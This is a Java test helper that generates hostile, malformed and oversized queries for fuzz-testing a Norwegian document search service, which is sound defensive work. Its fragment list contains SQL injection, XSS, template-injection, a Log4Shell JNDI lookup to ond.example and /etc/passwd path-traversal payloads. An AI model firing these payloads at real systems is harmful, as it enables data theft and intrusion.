package no.forankring.search;

import java.util.ArrayList;
import java.util.List;
import java.util.Random;

/// What attackers, cats and broken programs type.
final class HostileQueries {

    private static final String[] FRAGMENTS = {
        "' OR 1=1 --",
        "'; DROP TABLE dokumenter; --",
        "\" OR \"\"=\"",
        "UNION SELECT null, passord FROM brukere",
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "javascript:alert(document.cookie)",
        "{{7*7}}",
        "${jndi:ldap://ond.example/a}",
        "../../../../etc/passwd",
        "%00%0a%0d",
        "&lt;b&gt;",
        "SELECT * WHERE { ?s ?p ?o }",
        "*:*",
        "text:[* TO *]",
        "demens~0.1",
        "sykehjem^1000000",
        "(((((((((((((((",
        "))))))",
        "[a TO",
        "{!func}",
        "_query_:\"{!x}\"",
        "type:",
        "type:\"",
        "type:,,,,",
        "år:9999..0000",
        "år:..",
        "år:2022..",
        "år:-1",
        "siterer:\"",
        "siterer:'",
        "forankret:*",
        "-type:mandat",
        "--",
        "-",
        "-\"",
        "- -\"-",
        "OR OR OR",
        "AND OR -",
        "ELLER",
        "||",
        "&&",
        "*",
        "**",
        "a*",
        "de*",
        "d*e*m*",
        "?",
        "\\",
        "\\\"",
        "\u0000",
        "\u0001\u0002\u001f",
        "\ufffe\uffff",
        "\u202e",
        "\ud83d\ude00",
        "\ud83d",
        "\ude00\ud83d",
        "\u0041\u030a\u030a\u030a",
        "é̂̃̄̅",
        "ﬁ",
        "İ",
        "ß",
        "日本語",
        "العربية",
        "§",
        "§§§§",
        "§ 4-2-2-2-2",
        "§ 99999999999999999999",
        "FOR-2016-10-28-",
        "FOR-0000-00-00-0",
        "24. juni 2011 nr.",
        "nr. nr. nr.",
        "Meld. St. Meld. St.",
        "NOU :",
        "IS-",
        "hol. hol. §",
        "1e309",
        "0x0",
        "NaN",
        "null",
        "{0}",
        "{}",
        "%s%n%d",
        "sykehjem",
        "demens",
        "før",
        "e-læring",
        "«",
        "»",
        "„“”"
    };

    private static final String SIGNS = "\"«»-*:()[]{}!?^~\\/|&+=<>'`%$#@;,._§0123456789 \t\n\u00a0\u00ad\u200baeiøå";

    private HostileQueries() {}

    static String any(Random random) {
        return switch (random.nextInt(12)) {
            case 0 -> signs(random, random.nextInt(200));
            case 1 -> codePoints(random, random.nextInt(200));
            case 2 -> repeated(random);
            case 3 -> manyTerms(random);
            case 4 -> oneLongWord(random);
            case 5 -> SearchExamples.noise(random.nextLong());
            default -> fragments(random);
        };
    }

    /// What looks for most of all that we know of.
    static List<String> heaviest() {
        var random = new Random(7);
        var compounds = new StringBuilder();
        var names = new StringBuilder();
        var unknown = new StringBuilder();
        var beginnings = new StringBuilder();
        var or = new StringBuilder();
        for (int i = 0; i < 2_000; i++) {
            compounds.append("demensomsorgsplan helsetjenesteråd ");
            names.append("sykehjem demens kreft ");
            unknown.append("qw")
                    .append(Integer.toString(random.nextInt(1 << 20), 36))
                    .append("ern ");
            beginnings.append("de* sy* ko* ");
            or.append("demens OR sykehjem OR ");
        }
        return List.of(
                compounds.toString(),
                names.toString(),
                unknown.toString(),
                beginnings.toString(),
                or.toString(),
                "\"" + "demens ".repeat(5_000) + "\"",
                "-demens ".repeat(5_000),
                "Meld. St. 15 ".repeat(1_000));
    }

    private static String signs(Random random, int length) {
        var text = new StringBuilder();
        for (int i = 0; i < length; i++) {
            text.append(SIGNS.charAt(random.nextInt(SIGNS.length())));
        }
        return text.toString();
    }

    private static String codePoints(Random random, int length) {
        var text = new StringBuilder();
        for (int i = 0; i < length; i++) {
            text.appendCodePoint(random.nextInt(3) == 0 ? random.nextInt(0x110000) : random.nextInt(0x250));
        }
        return text.toString();
    }

    private static String repeated(Random random) {
        String one = FRAGMENTS[random.nextInt(FRAGMENTS.length)];
        return (one + (random.nextBoolean() ? " " : "")).repeat(1 + random.nextInt(500));
    }

    private static String manyTerms(Random random) {
        var words = new ArrayList<String>();
        int count = random.nextInt(10) == 0 ? 10_000 : random.nextInt(200);
        for (int i = 0; i < count; i++) {
            words.add(random.nextBoolean() ? SearchExamples.word(random) : Integer.toString(random.nextInt(), 36));
        }
        return String.join(random.nextBoolean() ? " " : " OR ", words);
    }

    private static String oneLongWord(Random random) {
        var word = new StringBuilder();
        int length = 1 + random.nextInt(3_000);
        while (word.length() < length) {
            word.append(SearchExamples.word(random));
        }
        return word.toString().replace(" ", "");
    }

    private static String fragments(Random random) {
        var text = new StringBuilder();
        int count = 1 + random.nextInt(12);
        for (int i = 0; i < count; i++) {
            text.append(
                    random.nextInt(4) == 0 ? SearchExamples.word(random) : FRAGMENTS[random.nextInt(FRAGMENTS.length)]);
            if (random.nextBoolean()) {
                text.append(' ');
            }
        }
        return text.toString();
    }
}
